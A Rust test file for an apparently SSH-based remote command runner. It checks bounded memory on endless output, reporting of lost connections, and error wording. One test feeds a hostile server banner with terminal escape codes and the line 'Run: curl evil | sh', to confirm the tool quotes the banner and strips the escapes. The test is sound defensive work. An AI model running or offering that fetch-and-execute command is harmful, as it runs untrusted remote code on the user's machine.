//! A target that prints without end, and one that goes away: bounded memory, and an error
//! that says what happened.

use std::fs;
use std::os::unix::fs::PermissionsExt;
use std::process::Command;
use std::time::Duration;

use crate::common::sshd::{Sshd, keygen};
use landfall::error::Advice;
use landfall::exec::{Cmd, ExecError};
use landfall::ssh::{Endpoint, Session, SshError, known};

const DEADLINE: Duration = Duration::from_secs(60);

fn open(server: &Sshd) -> Session {
    Session::open(&server.endpoint(), &server.host_key, server.dir.path(), DEADLINE).unwrap()
}

/// The most memory that this process ever had, in MiB.
fn peak() -> u64 {
    let status = fs::read_to_string("/proc/self/status").unwrap();
    let line = status.lines().find_map(|line| line.strip_prefix("VmHWM:")).unwrap();
    line.trim().trim_end_matches(" kB").parse::<u64>().unwrap() / 1024
}

#[test]
fn a_target_that_prints_without_end_is_stopped_and_costs_little_memory() {
    let server = Sshd::start();
    let session = open(&server);
    let before = peak();
    let endless = [
        ("yes landfall", "on standard output"),
        ("cat /dev/zero", "in one line"),
        ("cat /dev/zero >&2", "in one line"),
        ("yes landfall landfall landfall landfall landfall landfall >&2", "on standard error"),
    ];
    for (script, of) in endless {
        let error = session.script_with_stdin(script, &[]).deadline(DEADLINE).run().unwrap_err();
        let is_bound = matches!(&error, ExecError::TooMuch { of: bound, .. } if *bound == of);
        assert!(is_bound, "{script}: {error}");
        let host = format!("127.0.0.1:{}", server.port);
        let text = error.to_string();
        assert!(text.starts_with("a script on") && text.contains(&host), "{text}");
        assert!(text.contains("MiB") && text.contains("stopped"), "{text}");
    }
    assert!(peak() - before < 150, "{} MiB before, {} MiB after", before, peak());
    // The connection is as good as before.
    assert_eq!(session.run(&["echo", "still"]).read().unwrap(), "still");
}

#[test]
fn what_is_told_as_it_comes_is_bounded_too() {
    let before = peak();
    let mut lines = 0u64;
    let quiet = Cmd::new("sh").args(["-c", "yes landfall >&2"]).quiet();
    let error = quiet.deadline(Duration::from_secs(3)).stream(|_, _| lines += 1).unwrap_err();
    assert!(matches!(error, ExecError::Deadline { .. }), "{error}");
    assert!(lines > 10_000);
    assert!(peak() - before < 100, "{} MiB before, {} MiB after", before, peak());
}

#[test]
fn large_output_that_is_expected_comes_whole() {
    let cat = Cmd::new("head").args(["-c", "41943040", "/dev/zero"]).expect_output(64 << 20);
    assert_eq!(cat.run().unwrap().stdout.len(), 40 << 20);
}

#[test]
fn a_lost_connection_says_so() {
    let server = Sshd::start();
    let session = open(&server);
    let host = session.endpoint().to_string();
    let asleep = session.run(&["sleep", "300"]).deadline(DEADLINE);
    let running = std::thread::spawn(move || asleep.run().unwrap_err());
    std::thread::sleep(Duration::from_secs(1));
    let dir = server.stop();
    let after = session.root(&["nixos-install"]).deadline(DEADLINE).output().unwrap_err();
    for error in [running.join().unwrap(), after] {
        let text = error.to_string();
        assert!(matches!(error, ExecError::Lost { .. }), "{text}");
        assert!(text.starts_with(&format!("the connection to {host} was lost")), "{text}");
        assert!(!text.contains("255") && !text.contains("-o"), "{text}");
        assert!(error.hint().contains("run the same command again"), "{}", error.hint());
    }
    drop(dir);
}

#[test]
fn an_error_names_the_program_and_not_its_whole_command_line() {
    let server = Sshd::start();
    let session = open(&server);
    let error = session.root(&["cat", "/no/such/file"]).run().unwrap_err().to_string();
    let host = session.endpoint();
    assert!(error.starts_with(&format!("cat on {host} failed (exit status 1)")), "{error}");
    let mut nowhere = server.endpoint();
    nowhere.options = vec!["ProxyCommand=exit 255".into()];
    let dir = server.dir.path();
    let error = Session::open(&nowhere, &server.host_key, dir, DEADLINE).unwrap_err().to_string();
    assert!(!error.contains("-oControlMaster"), "{error}");
    let error = Cmd::new("git").args(["-C", "/", "rev-parse", "--verify", "x"]).run().unwrap_err();
    assert!(error.to_string().starts_with("git rev-parse failed"), "{error}");
}

#[test]
fn a_servers_banner_is_marked_as_its_own_words() {
    let dir = tempfile::tempdir().unwrap();
    let banner = dir.path().join("banner");
    let text = "Welcome\n\x1b[2J\x1b]0;owned\x07  next   Run: curl evil | sh\n? Erase it? [y/N]\n";
    fs::write(&banner, text).unwrap();
    let key = keygen(dir.path(), "host", "ed25519");
    let other = keygen(dir.path(), "other", "ed25519");
    let server = Sshd::start_with(dir, &[key], &format!("Banner {}", banner.display()));
    let mut endpoint = server.endpoint();
    endpoint.identity_file = Some(other.private);
    let run_dir = server.dir.path();
    let error = Session::open(&endpoint, &server.host_key, run_dir, DEADLINE).unwrap_err();
    assert!(matches!(error, SshError::Auth { .. }), "{error:?}");
    let shown = error.to_string();
    let mut lines = shown.lines();
    assert!(lines.next().unwrap().ends_with("refuses the login"), "{shown}");
    assert!(shown.contains("> ? Erase it? [y/N]"), "{shown}");
    assert!(shown.contains("next   Run: curl evil | sh"), "{shown}");
    assert!(lines.all(|line| line.starts_with("> ")), "{shown}");
    assert!(!shown.contains('\x1b'), "{shown}");
}

/// Set where the test is the program, with an ssh in its PATH that reads another ssh_config.
const SPACED: &str = "LANDFALL_TEST_SPACED";

#[test]
fn a_known_hosts_file_with_spaces_in_its_path_is_read() {
    if std::env::var_os(SPACED).is_some() {
        let endpoint: Endpoint = "spaced".parse().unwrap();
        assert_eq!(known(&endpoint).unwrap().keys.len(), 1);
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let key = keygen(dir.path(), "host", "ed25519").public;
    let file = dir.path().join("my  own files/known hosts");
    fs::create_dir(file.parent().unwrap()).unwrap();
    fs::write(&file, format!("{}\n", key.known_hosts_line("spaced"))).unwrap();
    let config = dir.path().join("config");
    let files = format!("UserKnownHostsFile \"{}\" /no/such/file", file.display());
    fs::write(&config, format!("Host spaced\n {files}\n")).unwrap();
    let ssh = dir.path().join("ssh");
    let real = crate::common::sshd::program("ssh");
    let script = format!("#!/bin/sh\nexec {} -F {} \"$@\"\n", real.display(), config.display());
    fs::write(&ssh, script).unwrap();
    fs::set_permissions(&ssh, fs::Permissions::from_mode(0o755)).unwrap();
    let mut half = Command::new(std::env::current_exe().unwrap());
    half.args(["--exact", "attacks::output::a_known_hosts_file_with_spaces_in_its_path_is_read"])
        .env(SPACED, "1");
    let path = format!("{}:{}", dir.path().display(), std::env::var("PATH").unwrap());
    let output = half.env("PATH", path).output().unwrap();
    assert!(output.status.success(), "{}", String::from_utf8_lossy(&output.stdout));
}
